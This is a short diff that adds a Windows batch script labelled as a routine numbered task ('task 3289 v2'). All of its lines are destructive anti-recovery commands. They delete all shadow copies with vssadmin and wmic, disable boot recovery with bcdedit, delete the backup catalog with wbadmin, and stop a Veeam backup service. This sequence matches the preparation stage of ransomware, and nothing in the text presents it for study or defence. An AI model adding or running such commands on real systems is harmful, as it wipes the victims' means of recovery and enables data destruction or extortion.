@@ -1,0 +1,7 @@
+REM task 3289 v2
+vssadmin delete shadows /all /quiet
+wmic shadowcopy delete
+bcdedit /set {default} recoveryenabled no
+bcdedit /set {default} bootstatuspolicy ignoreallfailures
+wbadmin delete catalog -quiet
+net stop "Veeam Backup Catalog Data Service" /y
